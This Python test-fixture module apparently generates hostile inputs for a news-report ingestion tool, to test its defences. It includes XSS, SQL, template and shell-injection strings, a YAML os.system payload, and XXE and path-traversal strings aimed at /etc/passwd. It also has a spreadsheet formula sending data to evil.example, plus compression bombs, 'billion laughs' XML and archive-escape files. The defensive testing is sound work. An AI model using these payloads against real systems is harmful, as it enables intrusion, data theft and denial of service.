"""Texts and files that mean harm, made here: what stands in a report, what a field holds, what a file is."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import tarfile
import zipfile
from collections.abc import Iterator

from onrecord.sources.checks import MAX_CHARACTERS, MAX_LINE

# What can steer a terminal: control characters, and those that turn the direction of writing around.
STEERS = (
    "\x00\x07\x08\x1b\x7f\x85\x9b"
    "\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
)

# An attack by what it attacks; each stands in every field that a text of others can reach.
ATTACKS: dict[str, str] = {
    "terminal": "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m\x9b1m\x08\x08\x7f",
    "link": "\x1b]8;;https://evil.example\x1b\\press here\x1b]8;;\x1b\\",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>&lt;b&gt;</td></table><!--",
    "attribute": "\" onmouseover=\"alert(1)\" x='' autofocus onfocus='alert(1)",
    "template": "{{ 7*7 }}{% for x in ().__class__.__mro__ %}${7*7}#{7*7}%(x)s{0.__class__}",
    "javascript": "javascript:alert(1)//https://a.example/%0a\tdata:text/html,<script>alert(1)</script>",
    "sql": "Robert'); DROP TABLE report;-- ' OR 1=1 UNION SELECT sql FROM sqlite_schema/*",
    "fts": 'NEAR(a b) OR * AND ( "unclosed ^ title:x -',
    "formula": '=HYPERLINK("https://evil.example?"&A1,"x")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0; $(touch owned) `touch owned` | touch owned\n- rm",
    "path": "../../../../etc/passwd",
    "windows-path": "..\\..\\C:\\Windows\\con.txt:stream",
    "absolute-path": "/tmp/owned-by-onrecord",
    "markdown": "](https://evil.example) ![x](https://evil.example/x.png)\n\n# A\n\n---\n|a|b|\n[^1]: n",
    "yaml": "!!python/object/apply:os.system ['touch owned']",
    "lines": "one\r\ntwo\x0bthree\x0cfour\x85five\u2028six\u2029seven\teight",
    "bidi": "\u202eyasredeuT no dengis\u202c \u2067abc\u2069\u200f",
    "zero-width": "I\u200br\u200ca\u200dn\u2060 \ufeffsigned\u00ad it\u180e",
    "homoglyph": "Аnthony Вlinken of Irаn",  # Cyrillic А, В, а
    "fullwidth": "Ｉｒａｎ ｓｉｇｎｅｄ, ℐran ﬁrst",
    "combining": "Z" + "\u0300\u0489\u0315" * 60 + "algo \u0301 a\u20dd",
    "right-to-left": "قال وزير الخارجية الإيراني، ואמר שר החוץ",
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈🇮🇷🇺🇸\U000e0041\U000e007f",
    "private": "\ue000\uf8ff\U0010ffff\ufffe\uffff\ufdd0",
    "null": "a\x00b",
    "xml": "]]><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
    "json": '","id":"x"},{"text":"',
    "long": "A" * 5_000,
}

# A report in which a stranger's name, words and issue stand; '{}' is the attack.
_REPORT = (
    "VIENNA, July 14 (Agency) - Iran rejected the plan of {x} on Tuesday, John Kerry said.\n\n"
    "“We will never accept {x},” the Iranian foreign minister, {x}, told reporters in Vienna.\n\n"
    "{x} demanded a ceasefire, and the United States met with Iran. {x}"
)


def report(attack: str) -> str:
    """A report with the attack in its names, its quotations and its issues."""
    return _REPORT.replace("{x}", attack)


_SAID = "Iran rejected the plan, John Kerry said.\n"
# So that a text counts as English, whatever is in it.
_ENGLISH = "It was what they had said to all of us, and that is how it would be in the end.\n"
# What is repeated to make a text whose shape is the attack; what stands before it and after it.
_REPEATED: dict[str, tuple[str, str, str]] = {
    "one-token": ("", "a", " signed."),
    "one-capital-token": ("", "Aa", " signed."),
    "one-number": ("On ", "1", " July ships met."),
    "one-hyphenated": ("The ", "a-", "plan failed."),
    "one-address": ("See https://a.example/", "a/%2e", " for the plan."),
    "quotation-marks": ("", '"' * 40 + "\n", ""),
    "quotation-marks-apart": ("", '" a ', ""),
    "apostrophes": ("", "' a", ""),
    "nested-quotations": ("", "“‘" * 20 + "No" + "’”" * 20 + ", he said.\n", ""),
    "unclosed": ("", "“So, he said.\n", ""),
    "said-said": ("", "he said that ", "Iran signed."),
    "parentheses": ("", "(", "Iran signed."),
    "brackets": ("", "[<{", "Iran signed."),
    "commas": ("", "Iran, ", "signed."),
    "and-and": ("", "Iran and ", "Iraq signed a pact."),
    "capitals": ("", "Bo Ko Lo Mo ", "met."),
    "names": ("", "Ann Bo, Cy Do, ", "met."),
    "dots": ("", ".", ""),
    "initials": ("", "J. ", "Kerry signed."),
    "blank-lines": ("", "\n", ""),
    "spaces": ("", " ", ""),
    "tabs": ("", "\t\r\n", ""),
    "zero-width": ("Iran", "\u200b", " signed."),
    "combining": ("Z", "\u0301", " signed."),
    "soft-hyphens": ("", "re\u00adject ", ""),
    "bidi": ("", "\u202e\u2066", "Iran signed."),
    "mojibake": ("", "â€œIranâ€\x9d saidâ€™s ", ""),
    "entities": ("", "&amp;&lt;b&gt;", ""),
    "days": ("", "on Monday, July 14, 2015, ", "he came."),
    "datelines": ("", f"VIENNA, July 14 (Agency) - {_SAID}\n", ""),
    "speakers": ("", f"KERRY: {_SAID}Q: What?\n", ""),
    "dashes": ("", "— - – ", ""),
    "ellipses": ("", "… ", ""),
    "numbers": ("", "10 percent of 20 million tons, ", "met."),
    "ifs": ("", "if Iran signs unless Iraq refuses ", "."),
    "nots": ("Iran did ", "not ", "sign."),
    "ofs": ("The head of the office ", "of the plan ", "met."),
    "possessives": ("", "Iran's ", "plan failed."),
    "demands": ("", "Iran demanded a ban and ", "signed."),
    "whoms": ("", "Iran, which rejected Iraq, ", "signed."),
    "furniture": ("", "Read more: Iran\nSubscribe now\n(Reporting by A)\n", ""),
}


def shape(name: str, size: int) -> str:
    """A report of about so many characters, half of them one thing over and over, the other half English."""
    before, piece, after = _REPEATED[name]
    attack = before + piece * (size // 2 // len(piece)) + after
    return f"{_ENGLISH * (size // 2 // len(_ENGLISH))}{attack}\n{_SAID}"


SHAPES = tuple(_REPEATED)

# Texts that must be refused, with the reason.
REFUSED: dict[str, tuple[str, str]] = {
    "nul": ("Iran signed\x00 the plan, Kerry said.", "binary"),
    "half-pair": ("Iran signed \ud83d the plan, Kerry said.", "not-unicode"),
    "other-half": ("Iran signed \udcff the plan, Kerry said.", "not-unicode"),
    "megabyte-token": ("a" * (MAX_LINE + 1), "long-line"),
    "megabyte-line": ("Iran signed. " * (MAX_LINE // 12), "long-line"),
    "too-large": ("Iran signed the plan.\n" * (MAX_CHARACTERS // 20), "too-large"),
    "quotation-marks": ('"' * 100_000, "nested-quotes"),
    "opened": ("“" * 90_000 + "a", "nested-quotes"),
    "opened-apart": ("“ a " * 20_000, "nested-quotes"),
    "nothing": ("", "empty"),
    "invisible": ("\u200b\u2060\ufeff \n" * 1_000, "empty"),
    "combining-alone": ("\u0301" * 1_000, "no-letters"),
    "signs": ("§$%&/()=?¡" * 1_000, "no-letters"),
    "right-to-left": (
        "قال وزير الخارجية الإيراني يوم الثلاثاء إن المحادثات ستستمر في فيينا. " * 3,
        "language",
    ),
}

TEXT = "Iran rejected the plan, John Kerry said in Vienna on Tuesday.\n"
_BIG = 300 * 1024 * 1024


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, data in members.items():
            file.writestr(name, data)
    return out.getvalue()


def _tar(members: dict[str, bytes], kind: bytes = tarfile.REGTYPE, link: str = "") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as file:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size, info.type, info.linkname = len(data), kind, link
            file.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _nested(data: bytes, times: int, pack: str) -> bytes:
    for n in range(times):
        data = gzip.compress(data) if pack == "gzip" else _zip({f"{n}.zip" if n else "a.txt": data})
    return data


def _lies_about_size() -> bytes:
    """A zip member that says it is small."""
    data = bytearray(_zip({"a.txt": TEXT.encode() * 500}))
    at = data.rindex(b"PK\x01\x02") + 24  # the size unpacked, in the directory
    data[at : at + 4] = (100).to_bytes(4, "little")
    return bytes(data)


_PAGE = "<html><head><title>Talks</title></head><body><article>{}</article></body></html>"
_LAUGHS = (
    "<?xml version='1.0'?><!DOCTYPE lolz [<!ENTITY a 'ha'>"
    + "".join(f"<!ENTITY {n} '{f'&{p};' * 10}'>" for p, n in zip("abcdefgh", "bcdefghi", strict=True))
    + "]><rss><channel><item><title>&i;</title><description>&i;</description></item></channel></rss>"
)
_OUTSIDE = (
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>"
    "<rss><channel><item><title>t</title><description>&a; Iran rejected the plan.</description></item>"
    "</channel></rss>"
)


def files() -> Iterator[tuple[str, bytes, str | None]]:
    """Hostile files: name, bytes, and the reason that must be among the failures; None: none must be."""
    yield "zeros.txt.gz", gzip.compress(bytes(_BIG // 4), 9), "too-large"
    yield "zeros.txt.bz2", bz2.compress(bytes(_BIG // 4)), "too-large"
    yield "zeros.txt.xz", lzma.compress(bytes(_BIG // 4)), "too-large"
    yield "zeros.zip", _zip({f"{n}.txt": bytes(_BIG // 12) for n in range(3)}), "too-large"
    yield "nested.gz", _nested(TEXT.encode() * 20, 12, "gzip"), "too-deep"
    yield "nested.zip", _nested(TEXT.encode() * 20, 12, "zip"), "too-deep"
    yield "lies.zip", _lies_about_size(), "damaged"
    yield "slips.zip", _zip({"../../slip.txt": TEXT.encode(), "/etc/slip.txt": TEXT.encode()}), None
    yield "slips.tar", _tar({"../../slip.txt": TEXT.encode(), "/slip.txt": TEXT.encode()}), None
    yield "links.tar", _tar({"a.txt": b""}, tarfile.SYMTYPE, "/etc/passwd"), None
    yield "hard.tar", _tar({"a.txt": b""}, tarfile.LNKTYPE, "/etc/passwd"), None
    yield "devices.tar", _tar({"a.txt": b""}, tarfile.CHRTYPE), None
    yield "names.zip", _zip({f"{a}.txt": TEXT.encode() for a in ATTACKS.values() if "\0" not in a}), None
    yield "deep.json", b'[{"text":' + b"[" * 100_000, "bad-json"
    yield "deep.jsonl", b'{"text":' + b'{"a":' * 50_000 + b"\n", "bad-json"
    yield "surrogate.jsonl", b'{"id":"a","text":"Iran \\ud800 signed"}\n', "bad-json"
    yield "keys.jsonl", json.dumps({f"k{n}": "v" for n in range(50_000)}).encode() + b"\n", "no-text"
    yield "number.jsonl", b'{"id":1,"text":"Iran signed.","published":' + b"9" * 50_000 + b"}\n", "bad-row"
    yield "deep.html", _PAGE.format("<div><b><i>" * 60_000 + "Iran").encode(), "too-large"
    yield "tags.html", _PAGE.format("<p " + "a=b " * 60_000 + ">Iran rejected the plan.</p>").encode(), None
    yield "comment.html", _PAGE.format("<!--" * 60_000 + "Iran").encode(), "no-report"
    yield "laughs.rss", _LAUGHS.encode(), None
    yield "outside.rss", _OUTSIDE.encode(), None
    yield "laughs.html", _LAUGHS.replace("rss", "html").encode(), None
    yield "columns.csv", b",".join(b"c%d" % n for n in range(100_000)) + b"\n", None
    yield "cell.csv", b'id,text\n1,"' + b'""' * 200_000, None
    yield (
        "deep.eml",
        b"".join(b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (n, n) for n in range(3_000)),
        None,
    )
    yield (
        "headers.eml",
        b"From: a@example.org\nSubject: x\n" + b"X: y\n" * 50_000 + b"\n" + TEXT.encode(),
        None,
    )
    yield (
        "encoded.eml",
        b"From: a@example.org\nSubject: " + b"=?utf-8?q?=1b[2J?= " * 5_000 + b"\n\n" + TEXT.encode(),
        None,
    )
    yield "wide.warc", b"WARC/1.0\r\nContent-Length: 99999999999999999999\r\n\r\n" + TEXT.encode(), "damaged"
    yield "negative.warc", b"WARC/1.0\r\nContent-Length: -5\r\n\r\n" + TEXT.encode(), "damaged"
    yield "objects.pdf", b"%PDF-1.7\n" + b"1 0 obj<</Kids[1 0 R]/Parent 1 0 R>>endobj\n" * 5_000, "damaged"
    yield (
        "loop.pdf",
        (
            b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
            b"2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9>>endobj\n"
            b"xref\n0 3\n0000000000 65535 f \n0000000009 00000 n \n0000000054 00000 n \n"
            b"trailer<</Root 1 0 R/Size 3>>\nstartxref\n115\n%%EOF"
        ),
        "damaged",
    )
    yield "fence.md", b"---\n" + b"a: [" * 50_000 + b"\n---\n" + TEXT.encode(), None
    yield (
        "anchors.md",
        (
            b"---\na: &a [x,x,x,x,x,x,x,x,x]\n"
            + b"".join(
                b"%c: &%c [%s]\n" % (n + 1, n + 1, b",".join([b"*%c" % n] * 9)) for n in range(97, 110)
            )
            + b"title: *n\n---\n"
            + TEXT.encode()
        ),
        None,
    )
    yield "utf-7.txt", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4- " + TEXT.encode(), None
    yield "utf-32.txt", TEXT.encode("utf-32"), None
    yield "overlong.txt", b"Iran signed \xc0\xaf\xe0\x80\xaf\xf4\x90\x80\x80 the plan.", None
